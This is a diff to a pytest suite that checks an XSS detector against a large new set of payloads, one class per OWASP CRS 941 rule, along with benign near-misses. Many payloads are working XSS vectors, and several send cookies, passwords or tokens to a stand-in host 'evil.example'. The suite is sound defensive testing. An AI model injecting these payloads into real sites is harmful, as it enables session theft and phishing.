@@ -785,33 +785,6 @@ ROUND2_BENIGN_XSS_ONLY = [("q", "12\" > 10\""), ("form", "\"Best seller\" > \"Ne
 ROUND2_BENIGN = [row for row in ROUND2_BENIGN if row not in ROUND2_BENIGN_XSS_ONLY]
 
 
-# round 1 (free-form) and round 2 (one class per CRS rule) are kept apart above to report first-pass numbers per round
-_ALL_ATTACKS = [(f"{i}-{c}", c, v) for i, (c, v) in enumerate(ATTACKS)] + \
-    [(f"r2-{i}-{c}", c, v) for i, (c, v) in enumerate(ROUND2_ATTACKS)]
-_ALL_BENIGN = [(f"{i}-{c}", c, v) for i, (c, v) in enumerate(BENIGN)] + \
-    [(f"r2b-{i}-{c}", c, v) for i, (c, v) in enumerate(ROUND2_BENIGN)]
-
-
-@pytest.mark.parametrize("carrier,value", [(c, v) for _, c, v in _ALL_ATTACKS], ids=[i for i, _, _ in _ALL_ATTACKS])
-def test_wild_xss_is_caught(engine, carrier, value):
-    hits = engine.inspect(build(carrier, value))
-    assert verdict(hits) == "attack" and _xss_score(hits) >= THRESHOLD, hits
-
-
-@pytest.mark.parametrize("carrier,value", [(c, v) for _, c, v in _ALL_BENIGN], ids=[i for i, _, _ in _ALL_BENIGN])
-def test_benign_near_miss_is_clean(engine, carrier, value):
-    hits = engine.inspect(build(carrier, value))
-    assert verdict(hits) == "clean", hits
-
-
-@pytest.mark.parametrize("carrier,value", ROUND2_BENIGN_XSS_ONLY, ids=[f"r2x-{i}-{c}" for i, (c, _) in enumerate(ROUND2_BENIGN_XSS_ONLY)])
-def test_round2_benign_raises_no_xss(engine, carrier, value):
-    hits = engine.inspect(build(carrier, value))
-    assert _xss_score(hits) < THRESHOLD
-    # the list stays honest: a value another detector no longer flags belongs in ROUND2_BENIGN
-    assert verdict(hits) == "attack", f"{value!r} is clean now: move it to ROUND2_BENIGN"
-
-
 def test_round2_every_class_has_payloads_and_sets_are_distinct():
     assert all(len(rows) >= 2 for rows in CRS_CLASSES.values()) and len(CRS_CLASSES) >= 30
     assert len(set(ROUND2_ATTACKS)) == len(ROUND2_ATTACKS) and not set(ROUND2_ATTACKS) & set(ATTACKS)
@@ -900,3 +873,400 @@ def test_same_origin_fetch_is_code_talk(engine, carrier, value):
 @pytest.mark.parametrize("carrier,value", FETCH_ATTACKS)
 def test_fetch_with_breakout_or_sink_is_caught(engine, carrier, value):
     assert _xss_score(engine.inspect(build(carrier, value))) >= THRESHOLD
+
+
+# --- round 3: CRS 4.25's 941 file as the checklist (new 941390/941400/941181, v4's bigger 941120/941160 event list,
+# 941180's v4 keywords), one class per rule, payloads written for this round (not CRS tests); first-pass numbers in
+# the report. The classes CRS 4 widened are the ones that missed: escaped at-rules, DOM writes after a breakout,
+# hieroglyphy atoms, a script URI inside a Referer's query.
+ROUND3_CLASSES: dict[str, list[tuple[str, str]]] = {
+    'libinjection HTML (941100/941101)': [
+        ('xff', '127.0.0.1"><svg/onload=alert(1)>'),
+        ('pname', '<img src=x onerror=alert(1)>'),
+        ('q', '<dETAILS\nopen\nonToGgle\n=\na=prompt,a()>'),
+        ('path', '<svg onload=alert(1)>'),
+        ('referer', 'https://shop.example/search?q="><script>alert(1)</script>'),
+    ],
+    'script tag (941110)': [
+        ('q', '<ScRiPt >prompt(document.cookie)</ScRiPt >'),
+        ('multipart', '<script/xss src=//evil.example/x.js>'),
+        ('referer', "https://shop.example/?q=<script>new Image().src='//evil.example/?c='+document.cookie</script>"),
+        ('ua', '<<SCRIPT>alert(1);//<</SCRIPT>'),
+        ('q', '<svg><script href=data:,alert(1) />'),
+    ],
+    'event handler incl. v4 names (941120/941160)': [
+        ('q', '"onfocus=alert(1) autofocus x="'),
+        ('form', '<x contenteditable onbeforeinput=alert(1)>type'),
+        ('json', '<video><source onerror="javascript:alert(1)">'),
+        ('cookie', "x'onpointerenter='alert`1`"),
+        ('hdr', '<svg onload\n=\nalert(1)>'),
+        ('q', '<div popover id=p onbeforetoggle=alert(1)>'),
+        ('q', '<div style=overflow:auto;height:9px onscrollend=alert(1)>'),
+        ('q', '<x ontransitionrun=alert(1) style=transition:color 1s>'),
+        ('q', '<body onpageswap=alert(1)>'),
+        ('q', '<input onauxclick=alert(1)>'),
+        ('q', '<x oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>'),
+        ('form', '<select autofocus onfocus=alert(1)>'),
+        ('json', '<keygen autofocus onfocusin=alert(1)>'),
+    ],
+    'attribute vector xlink/xmlns/data:text/html/formaction/;base64 (941130)': [
+        ('q', '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"/></svg>'),
+        ('form', '<iframe src="data:text/html;charset=utf-7,+ADw-script+AD4-alert(1)+ADw-/script+AD4-">'),
+        ('q', '<form><button formaction=javascript&colon;alert(1)>x'),
+        ('json', '<embed src="data:text/html;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoZG9jdW1lbnQuZG9tYWluKT4=">'),
+        ('q', '<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x'),
+    ],
+    'javascript URI in url() (941140)': [
+        ('form', '<div style="background-image:url(javascript:alert(1))">'),
+        ('q', 'x=color:red;background:url(javascript:alert(1))'),
+        ('cookie', "style=width:1px;list-style-image:url('javascript:alert(1)')"),
+    ],
+    'NoScript HTML injection tags (941160)': [
+        ('q', '<dialog open onclose=alert(1)><form method=dialog><button>x'),
+        ('form', '<isindex type=image src=1 onerror=alert(1)>'),
+        ('q', '<image src=x onerror=alert(1)>'),
+        ('json', '<audio src onloadstart=alert(1)>'),
+        ('q', '<object><param name=src value=javascript:alert(1)></object>'),
+        ('q', '<marquee/onstart=alert(1)>'),
+        ('q', '<frameset onload=alert(1)>'),
+        ('q', '<portal src=//evil.example>'),
+    ],
+    'NoScript attribute injection / data: / @import / -moz-binding (941170)': [
+        ('next', 'javascript:eval(name)'),
+        ('next', 'javascript:\\u0061lert(1)'),
+        ('next', 'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/'),
+        ('next', 'data:application/x-javascript;base64,YWxlcnQoMSk='),
+        ('next', 'data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E'),
+        ('form', "<style>@\\69mport '//evil.example/a.css';</style>"),
+        ('q', '@imp\\ort url(//evil.example/x.css);'),
+        ('next', 'javascript://comment\nalert(document.domain)'),
+        ('next', 'javascript:fetch`//evil.example`'),
+    ],
+    'node-validator keywords v4 (941180)': [
+        ('q', '";document.body.appendChild(document.createElement(\'script\')).src=\'//evil.example/x.js\';//'),
+        ('form', "';document.querySelector('form').action='//evil.example/phish';//"),
+        ('json', 'x"-this.parentNode.innerHTML=\'<b>pwned</b>\'-"'),
+        ('cookie', "';window.location='//evil.example/?'+document.cookie;//"),
+        ('q', "'+fetch('//evil.example/'+document.querySelector('input[type=password]').value)+'"),
+    ],
+    'style tag (941190)': [
+        ('form', '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>x</br>'),
+        ('q', '<style>*{x:expression(alert(1))}</style>'),
+        ('json', "<style>@import'//evil.example/x.css';</style>"),
+    ],
+    'VML frame (941200)': [
+        ('q', '<x:vmlframe src=//evil.example/x.vml#xss>'),
+        ('form', '<v:vmlframe src="//evil.example/a.vml"></v:vmlframe>'),
+    ],
+    'obfuscated javascript:/vbscript: (941210/941220)': [
+        ('q', '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>'),
+        ('next', '&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#97&#108&#101&#114&#116&#40&#49&#41'),
+        ('next', 'ja&Tab;vascript&colon;alert(1)'),
+        ('form', '<a href="vbs&#x63;ript:msgbox(1)">x</a>'),
+        ('next', 'j&#x0A;avascript:alert(1)'),
+        ('q', '<a href="jav&#x09;ascript:alert(1)">x</a>'),
+    ],
+    'embed (941230)': [
+        ('q', '<embed src=//evil.example/x.swf allowscriptaccess=always>'),
+        ('form', '<EMBED type="image/svg+xml" src="//evil.example/x.svg">'),
+    ],
+    'import implementation (941240)': [
+        ('q', '<html xmlns:xss><?import namespace=xss implementation=//evil.example/x.htc><xss:xss>x</xss:xss>'),
+        ('form', '<import implementation="//evil.example/b.htc">'),
+    ],
+    'meta http-equiv (941250)': [
+        ('q', '<meta http-equiv="Set-Cookie" content="sid=attacker; path=/">'),
+        ('form', '<meta http-equiv=refresh content="0;url=data:text/html;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoZG9jdW1lbnQuZG9tYWluKT4=">'),
+        ('q', '<META HTTP-EQUIV="Content-Security-Policy" content="script-src \'unsafe-inline\'">'),
+    ],
+    'meta charset (941260)': [
+        ('q', '<meta charset="UTF-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
+        ('json', '<meta charset=x-imap4-modified-utf7>'),
+    ],
+    'link href (941270)': [
+        ('cookie', '<link rel=stylesheet href=https://evil.example/x.css>'),
+        ('form', '<link rel=import href="//evil.example/x.html">'),
+        ('q', '<link rel=prefetch href=//evil.example/beacon>'),
+    ],
+    'base href (941280)': [
+        ('ua', 'Mozilla/5.0 <base href="//evil.example/">'),
+        ('form', '<BASE target=_blank href=https://evil.example/>'),
+    ],
+    'applet (941290)': [
+        ('q', '<applet code=Evil.class codebase=//evil.example>'),
+        ('json', '<APPLET archive=//evil.example/x.jar code=X>'),
+    ],
+    'object (941300)': [
+        ('q', '<object type=text/x-scriptlet data=//evil.example/x.sct>'),
+        ('form', '<OBJECT classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert(1)></OBJECT>'),
+        ('q', '<object codebase=//evil.example/x.cab codetype=application/x-oleobject>'),
+    ],
+    'US-ASCII 7-bit (941310)': [
+        ('q', '¼img src=x onerror=alert(1)¾'),
+        ('form', '¼svg onload=alert(1)¾'),
+    ],
+    'UTF-7 (941350)': [
+        ('q', '+ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-'),
+        ('form', '+ADw-svg/onload+AD0-alert(1)+AD4-'),
+        ('cookie', '+ACI-+AD4-+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
+    ],
+    'JSFuck / hieroglyphy (941360)': [
+        ('q', '[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]'),
+        ('form', '_=({}+[])[!+[]+!+[]+!+[]+!+[]+!+[]]+(![]+[])[+!+[]]'),
+        ('json', '(!+[]+[])[+!+[]]+(+{}+[])[+!+[]]'),
+    ],
+    'JS global access (941370)': [
+        ('q', 'top[/al/.source+/ert/.source](1)'),
+        ('form', 'self[`al`+`ert`](1)'),
+        ('q', "window[atob('YWxlcnQ=')](1)"),
+        ('cookie', "(document)['location']='//evil.example'"),
+        ('q', "this/*x*/['ale'+'rt'](1)"),
+        ('json', 'globalThis[String.fromCharCode(97,108,101,114,116)](1)'),
+    ],
+    'JS method call (941390)': [
+        ('q', "';setTimeout('ale'+'rt(1)');//"),
+        ('form', '"-new Function`alert\\`1\\``-"'),
+        ('q', "x';new Image().src='//evil.example/?'+btoa(document.cookie);//"),
+        ('json', "');import('//evil.example/x.mjs');//"),
+        ('hdr', 'setInterval`alert\\x281\\x29`'),
+        ('q', "eval.call`${'alert(1)'}`"),
+    ],
+    'call without parentheses (941400)': [
+        ('q', '[].sort.call`${alert}1337`'),
+        ('form', "Reflect.apply.call`${navigator.sendBeacon}${navigator}${['//evil.example',document.cookie]}`"),
+        ('q', "['1'].map(alert)"),
+        ('json', '[1].find(alert)'),
+        ('form', 'onerror=prompt;throw document.domain'),
+        ('q', "{onerror=eval}throw'=alert\\x281\\x29'"),
+        ('q', "'+[document.cookie].forEach(alert)+'"),
+    ],
+    'disallowed attributes after breakout (941150)': [
+        ('q', 'x" href="//evil.example'),
+        ('form', "' style='position:fixed;inset:0;background:url(//evil.example/a.png)"),
+        ('cookie', '" src=//evil.example/p.js x="'),
+    ],
+    'HTML tag after breakout (941320)': [
+        ('q', '"></title><h1>Site hacked</h1>'),
+        ('form', '</textarea><form action=//evil.example><input name=password type=password>'),
+        ('q', "'></option></select><img src=x onerror=alert(1)>"),
+    ],
+    'IE filter string breakout (941330/941340)': [
+        ('q', '";location=name;//'),
+        ('form', '"-(valueOf=alert,this)+"'),
+        ('q', "'|top.location.href='//evil.example'|'"),
+        ('json', "';document.location='//evil.example/?'+document.cookie;'"),
+    ],
+    'Angular / Vue template (941380)': [
+        ('q', "{{$on.constructor('alert(1)')()}}"),
+        ('form', "{{constructor.constructor('alert(1)')()}}"),
+        ('json', "{{[].pop.constructor('alert(1)')()}}"),
+        ('q', '{{x=valueOf.name.constructor.fromCharCode;constructor.constructor(x(97,108,101,114,116,40,49,41))()}}'),
+        ('q', "{{_c.constructor('alert(1)')()}}"),
+        ('form', '<div v-html="\'\'.constructor.constructor(\'alert(1)\')()">a</div>'),
+        ('q', "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}"),
+        ('q', "{{toString().constructor.constructor('alert(1)')()}}"),
+    ],
+    'mXSS / nesting / entities': [
+        ('q', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'),
+        ('q', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
+        ('q', '<svg><style><img src=x onerror=alert(1)></style></svg>'),
+        ('form', '<a href=javascript&colon;prompt&lpar;1&rpar;>x</a>'),
+        ('q', '<img src=x onerror="&#97;lert(1)">'),
+        ('q', '\\u003csvg onload=alert(1)\\u003e'),
+        ('b64', '<img src=x onerror=alert(1)>'),
+        ('q', '<iframe srcdoc="<img src=x onerror=alert(1)>">'),
+        ('form', '<object data="javascript:alert(1)">'),
+        ('q', '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a>'),
+    ],
+    'no-op link / location / DOM near the new rules': [
+        ('next', 'javascript:void(0);alert(document.cookie)'),
+        ('q', '<a href="javascript:void(0)" onclick="alert(1)">x</a>'),
+        ('next', "javascript:void(location='//evil.example')"),
+        ('q', '\'-location="javascript:alert(1)"-\''),
+        ('cookie', '";localStorage.token&&new Image().src=\'//evil.example/?t\'+localStorage.token;//'),
+        ('json', "x');document.forms[0].action='//evil.example';//"),
+        ('q', '"-document.getElementById(\'pw\').value-"'),
+        ('form', 'x:e\\xpression(alert(1))'),
+        ('q', '[!+[]+!+[]]+(!+[]+[])[+[]]'),
+    ],
+    "JS method after breakout / script URI in a URL's query (941390, 941101 Referer)": [
+        ('q', "'-console.dir(document)-'"),
+        ('form', "x'+btoa(localStorage.token)+'"),
+        ('referer', 'https://shop.example/?next=javascript:alert(document.domain)'),
+        ('referer', 'https://shop.example/login?a=1&return_to=java%0ascript:alert(1)'),
+        ('referer', "https://shop.example/#redirect=javascript:top.location='//evil.example'"),
+    ],
+}
+ROUND3_ATTACKS = [row for rows in ROUND3_CLASSES.values() for row in rows]
+# Near-misses of the round-3 shapes: code talk naming the same APIs, template syntax a CMS stores, the no-op link,
+# recipes with ¼/¾ (7-bit folding), `key="value"` notes, search Referers about JavaScript.
+ROUND3_BENIGN = [
+    ('q', 'how to use setTimeout in javascript'),
+    ('q', 'eval function python'),
+    ('q', 'console.log not working'),
+    ('form', '<3 love this product'),
+    ('form', 'Price < 20 and > 10'),
+    ('q', 'fetch api example'),
+    ('q', 'document.querySelector returns null'),
+    ('q', 'element.parentNode.removeChild(element)'),
+    ('q', 'style="color:red" not working'),
+    ('form', 'The base href tag in angular index.html'),
+    ('q', 'meta charset utf-8'),
+    ('q', '{{ product.title }}'),
+    ('form', 'Hello {{ customer.first_name }}, your order {{ order.name }} shipped'),
+    ('q', '{{#each items}}{{this.name}}{{/each}}'),
+    ('q', '[1,2,3].map(x => x*2)'),
+    ('q', 'arr.sort((a,b)=>a-b)'),
+    ('q', 'Reflect.apply docs'),
+    ('form', '5/5 -- would buy again --> great'),
+    ('q', '¼ cup sugar, ¾ cup flour'),
+    ('form', '½ tsp salt, ¼ tsp pepper, ¾ cup milk'),
+    ('q', 'onion=2kg'),
+    ('form', 'online=true; onboarding=done'),
+    ('cookie', 'onboarding_step=3'),
+    ('q', 'xmlns:xlink="http://www.w3.org/1999/xlink"'),
+    ('q', 'Reflect.apply.call explained'),
+    ('q', '"hello".toUpperCase()'),
+    ('q', "O'Reilly JavaScript: The Definitive Guide"),
+    ('q', 'top 10 window cleaners'),
+    ('q', 'self [help]'),
+    ('form', 'name="John" location="NYC"'),
+    ('q', 'ng-app directive tutorial'),
+    ('q', 'v-html vs v-text'),
+    ('q', 'angular {{ }} interpolation'),
+    ('q', '[].concat(a, b)'),
+    ('q', 'arr.forEach(console.log)'),
+    ('q', 'the alert was sent to the team'),
+    ('form', 'Set onerror handler in img tag?'),
+    ('q', 'javascript: void(0)'),
+    ('q', 'background: url(/img/bg.png)'),
+    ('form', 'list-style-image: url("bullet.png")'),
+    ('q', 'embed youtube video'),
+    ('q', 'object oriented programming'),
+    ('q', 'applet java deprecated'),
+    ('form', 'he wrote: "location = Berlin" in the form'),
+    ('q', "'Dr.' title"),
+    ('q', '+ADw- utf-7 explained'),
+    ('q', '1 + [] in javascript'),
+    ('q', "typeof [] === 'object'"),
+    ('form', 'Read more >> <b>Offer</b>'),
+    ('q', 'x=1;y=2'),
+    ('q', 'btoa vs atob'),
+    ('q', 'new Function vs eval performance'),
+    ('q', 'import()'),
+    ('form', 'Our new iframe embed code is in the dashboard'),
+    ('q', 'vmlframe ie'),
+    ('q', '&#169; 2024 Shop'),
+    ('q', 'Tom &amp; Jerry'),
+    ('form', 'AT&T; Verizon'),
+    ('q', '&lt;b&gt;bold&lt;/b&gt; escaping'),
+    ('q', 'document.title'),
+    ('json', "{{ 'hello' | upper }}"),
+    ('q', '{{ price * 1.2 }}'),
+    ('q', "['a','b'].join(',')"),
+    ('form', 'Set-Cookie header meaning'),
+    ('q', 'http-equiv refresh seo'),
+    ('form', 'My onboarding = great, onsite = better'),
+    ('q', 'data:image/png;base64,iVBORw0KGgo='),
+    ('q', 'url(javascript) css'),
+    ('q', 'Content-Security-Policy script-src'),
+    ('q', 'the base of the tower'),
+    ('q', 'JSFuck []()!+ explained'),
+    ('form', 'I <3 [] brackets'),
+    ('q', 'a[i] = b[j]'),
+    ('q', 'mailto:sales@shop.example'),
+    ('q', 'tel:+1-555-0100'),
+    ('q', "this['key'] vs this.key"),
+    ('q', "document.querySelector('#cart').addEventListener"),
+    ('q', '"Add to cart" document.body'),
+    ('form', "'localStorage' vs 'sessionStorage'"),
+    ('form', 'He said "yes", document.body is empty'),
+    ('q', 'C:\\Users\\me@corp\\docs'),
+    ('q', '<a href="javascript:void(0)" class="btn">Menu</a>'),
+    ('q', 'javascript:;'),
+    ('form', 'new Image() constructor in javascript'),
+    ('q', "it's document.body.scrollTop"),
+    ('q', "location='home'"),
+    ('q', 'node.parentNode.appendChild(child)'),
+    ('q', 'session(expression) in R'),
+    ('form', '\\section{Impression} latex'),
+    ('q', '@media\\ screen'),
+    ('q', "sessionStorage.getItem('cart')"),
+    ('form', '"Hello" - new Image'),
+    ('q', '+{} + [] = ?'),
+    ('q', 'console.log("hello world")'),
+    ('q', "'use strict'; console.log(x)"),
+    ('q', "btoa('user:pass') basic auth"),
+    ('form', '"Hello" said console.log'),
+    ('referer', 'https://shop.example/docs?topic=javascript:void(0)'),
+    ('referer', 'https://www.google.com/search?q=javascript+tutorial&oq=javascript'),
+    ('referer', 'https://shop.example/?q=javascript:+the+good+parts'),
+    ('referer', 'https://shop.example/?lang=javascript&level=beginner'),
+]
+# other detectors flag these (rfi data: URI, rce/php shapes); only XSS is held to silence here
+ROUND3_BENIGN_XSS_ONLY = [
+    ('q', 'data:text/plain,hello'),
+    ('q', 'image/svg+xml;base64 mime type'),
+    ('form', "Use {{ $t('welcome') }} for i18n in Vue"),
+    ('form', 'Filter: location = "New York" AND price < 100'),
+]
+
+
+def test_round3_sets_are_new_and_distinct():
+    earlier = set(ATTACKS) | set(ROUND2_ATTACKS) | set(ROUND2_EXTRA) | set(FETCH_ATTACKS)
+    assert all(len(rows) >= 2 for rows in ROUND3_CLASSES.values()) and len(ROUND3_CLASSES) >= 30
+    assert len(set(ROUND3_ATTACKS)) == len(ROUND3_ATTACKS) >= 150 and not set(ROUND3_ATTACKS) & earlier
+    assert len(set(ROUND3_BENIGN)) == len(ROUND3_BENIGN) >= 100
+    assert not set(ROUND3_BENIGN) & (set(BENIGN) | set(ROUND2_BENIGN) | set(FETCH_BENIGN) | set(ROUND3_BENIGN_XSS_ONLY))
+
+
+@pytest.mark.parametrize("value", ["?a=javascript" * 6000, "';" + "document.body " * 5000, "@\\" * 30000,
+                                   "'" * 40000 + "localstorage", "x=" + "&q=script:" * 6000, "!+[]" * 16000])
+def test_round3_shapes_stay_linear(value):
+    t0 = time.process_time()
+    xss.analyze(value)
+    assert time.process_time() - t0 < 1.0
+
+
+@pytest.mark.parametrize("value", ["javascript:void(0)", "javascript:;", "javascript: void(0);", "JavaScript:VOID(0)"])
+def test_noop_link_is_not_a_script_uri(value):
+    f = xss.analyze(value)
+    assert f is None or f.score < THRESHOLD
+
+
+@pytest.mark.parametrize("value", ["javascript:void(0);alert(1)", "javascript:void(location='//evil.example')", "javascript:"
+                                   "void(0)//\nalert(1)"])
+def test_noop_prefix_does_not_hide_code(value):
+    f = xss.analyze(value)
+    assert f is not None and f.score >= 0.9
+
+
+# rounds 1 (free-form), 2 (one class per CRS 3.3.4 rule) and 3 (CRS 4.25's 941 file as the checklist) are kept apart
+# above to report first-pass numbers per round; they run through one attack and one benign test
+_ALL_ATTACKS = [(f"{i}-{c}", c, v) for i, (c, v) in enumerate(ATTACKS)] + \
+    [(f"r2-{i}-{c}", c, v) for i, (c, v) in enumerate(ROUND2_ATTACKS)] + \
+    [(f"r3-{i}-{c}", c, v) for i, (c, v) in enumerate(ROUND3_ATTACKS)]
+_ALL_BENIGN = [(f"{i}-{c}", c, v) for i, (c, v) in enumerate(BENIGN)] + \
+    [(f"r2b-{i}-{c}", c, v) for i, (c, v) in enumerate(ROUND2_BENIGN)] + \
+    [(f"r3b-{i}-{c}", c, v) for i, (c, v) in enumerate(ROUND3_BENIGN)]
+_XSS_ONLY = ROUND2_BENIGN_XSS_ONLY + ROUND3_BENIGN_XSS_ONLY
+
+
+@pytest.mark.parametrize("carrier,value", [(c, v) for _, c, v in _ALL_ATTACKS], ids=[i for i, _, _ in _ALL_ATTACKS])
+def test_wild_xss_is_caught(engine, carrier, value):
+    hits = engine.inspect(build(carrier, value))
+    assert verdict(hits) == "attack" and _xss_score(hits) >= THRESHOLD, hits
+
+
+@pytest.mark.parametrize("carrier,value", [(c, v) for _, c, v in _ALL_BENIGN], ids=[i for i, _, _ in _ALL_BENIGN])
+def test_benign_near_miss_is_clean(engine, carrier, value):
+    hits = engine.inspect(build(carrier, value))
+    assert verdict(hits) == "clean", hits
+
+
+@pytest.mark.parametrize("carrier,value", _XSS_ONLY, ids=[f"x-{i}-{c}" for i, (c, _) in enumerate(_XSS_ONLY)])
+def test_benign_near_miss_raises_no_xss_though_another_detector_fires(engine, carrier, value):
+    hits = engine.inspect(build(carrier, value))
+    assert _xss_score(hits) < THRESHOLD
+    # the list stays honest: a value no other detector flags any more belongs in a BENIGN list
+    assert verdict(hits) == "attack", f"{value!r} is clean now: move it to a BENIGN list"
